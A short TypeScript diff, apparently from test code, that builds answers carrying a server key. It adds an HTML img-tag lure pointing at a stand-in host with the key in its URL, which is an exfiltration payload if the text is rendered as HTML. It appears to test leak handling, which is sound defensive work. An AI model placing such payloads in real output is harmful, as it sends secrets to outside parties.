@@ -191,11 +191,12 @@ function refusalOf(
   return null;
 }
 
+/** What would send the key elsewhere if it were taken for HTML. */
+const LURE = `<img src='https://elsewhere.example/${SERVER_KEY}'>`;
+
 /** The answer with the key in its reason or its advice. */
 const withKey = (answer: string): string =>
-  answer
-    .replace('Reason: ', `Reason: asked with ${SERVER_KEY}. `)
-    .replace('"coordination":"', `"coordination":"You hold ${SERVER_KEY}. `);
+  answer.replace('Reason: ', `Reason: ${LURE} `).replace('"coordination":"', `"coordination":"${LURE} `);
 
 interface Voiced {
   readonly content: string;
